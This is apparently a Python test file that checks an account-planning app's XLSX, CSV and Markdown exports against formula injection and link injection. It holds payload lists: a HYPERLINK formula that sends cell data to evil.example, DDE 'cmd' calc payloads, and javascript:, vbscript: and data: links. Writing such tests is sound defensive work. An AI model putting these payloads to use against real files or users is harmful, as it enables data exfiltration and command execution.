"""Formula injection and link injection in every file we write (issue 14 point 7).

Every text field of a full plan document gets a spreadsheet formula or a ``javascript:`` link;
the plan is exported as XLSX and Markdown, the portfolio tables as CSV and XLSX, and each file is
read back: no cell may start with a live formula, real numbers stay numbers, no link survives.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
from openpyxl import load_workbook

from accountplan.core.spreadsheet_safe import is_formula, safe_cell, safe_frame
from accountplan.exports.markdown import render_markdown
from accountplan.exports.workbook import render_xlsx
from accountplan.portfolio.downloads import table_bytes
from accountplan.portfolio.exports import write_table
from tests.exports.sample import full_document

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
LINKS = (
    "[click](javascript:alert(1))",
    "![img](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "\\[esc\\](javascript:alert(2))",
    "<a href='javascript:alert(3)'>a</a>",
)


def _plant(obj: Any, payloads: itertools.cycle[str]) -> Any:
    """``obj`` with every text field, however deep, replaced by the next payload."""
    if isinstance(obj, str):
        return next(payloads)
    if isinstance(obj, tuple):
        return tuple(_plant(x, payloads) for x in obj)
    if isinstance(obj, list):
        return [_plant(x, payloads) for x in obj]
    if dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        changes = {
            f.name: _plant(getattr(obj, f.name), payloads)
            for f in dataclasses.fields(obj)
            if f.name not in {"state", "level", "kind", "currency"}  # enumerations, not user text
        }
        return dataclasses.replace(obj, **changes)
    return obj


def _live_formulas(values: list[Any]) -> list[Any]:
    return [v for v in values if isinstance(v, str) and is_formula(v)]


def test_helper_escapes_formulas_and_keeps_numbers():
    for payload in FORMULAS:
        assert safe_cell(payload) == "'" + payload
    for harmless in ("-1200", "+3.5", "-0.25", "1,200", "Acme", "", "a=b"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(Decimal("-5")) == Decimal("-5")
    assert safe_cell(-5) == -5
    frame = pl.DataFrame({"=name": [*FORMULAS, "-12", "Acme"], "n": list(range(8))})
    out = safe_frame(frame)
    assert out.columns == ["'=name", "n"]
    assert out["'=name"].to_list() == ["'" + f for f in FORMULAS] + ["-12", "Acme"]
    assert out["n"].dtype == pl.Int64


def test_plan_workbook_has_no_live_formula_in_any_cell(attack_figures):
    doc = _plant(full_document(), itertools.cycle(FORMULAS))
    wb = load_workbook(io.BytesIO(render_xlsx(doc)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not _live_formulas([c.value for c in cells])
    escaped = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("'")]
    assert len(escaped) > 50  # the payloads are there, as text
    summary = wb["Summary"]
    first_column = [summary.cell(r, 2).value for r in range(1, 8)]
    assert "'" + FORMULAS[0] in first_column  # the account name / title row
    numbers = [c.value for c in cells if isinstance(c.value, (int, float))]
    assert numbers  # money and counts stay numeric
    attack_figures(
        f"formula injection: plan XLSX, {len(cells)} cells, {len(escaped)} escaped, 0 live"
    )


def test_markdown_export_has_no_injected_link_or_html(attack_figures):
    doc = _plant(full_document(), itertools.cycle(LINKS))
    text = render_markdown(doc).decode()
    assert "](javascript:" not in text and "](vbscript:" not in text and "](data:" not in text
    assert "javascript:" not in text.lower() and "vbscript:" not in text.lower()
    assert "<a " not in text
    # every bracket of user text is escaped: none starts a link
    import re

    assert not re.search(r"(?<!\\)\]\(", text)
    attack_figures(f"markdown links: {text.count('&#58;')} unsafe schemes broken, 0 links")


def test_portfolio_downloads_escape_headers_and_cells(tmp_path: Path, attack_figures):
    header = ["Account", *FORMULAS[:1]]
    rows = [[f, Decimal("-1200.50")] for f in FORMULAS]
    as_csv = list(csv.reader(io.StringIO(table_bytes(header, rows, "csv").decode())))
    assert not _live_formulas([v for row in as_csv for v in row])
    assert as_csv[1][1] == "-1200.50"
    wb = load_workbook(io.BytesIO(table_bytes(header, rows, "xlsx")))
    values = [c.value for row in wb.active.iter_rows() for c in row]
    assert not _live_formulas(values)
    assert -1200.5 in values
    frame = pl.DataFrame({"account_name": list(FORMULAS), "wallet": [1.5] * len(FORMULAS)})
    checked = len(values) + sum(len(r) for r in as_csv)
    for fmt in ("csv", "xlsx"):
        path = write_table(frame, tmp_path, "accounts", fmt)
        if fmt == "csv":
            read = [v for row in csv.reader(path.open()) for v in row]
        else:
            sheet = load_workbook(path).active
            read = [c.value for row in sheet.iter_rows() for c in row]
        assert not _live_formulas(read)
        assert any(v in ("1.5", 1.5) for v in read)
        checked += len(read)
    attack_figures(f"formula injection: portfolio CSV/XLSX downloads and files, {checked} cells")
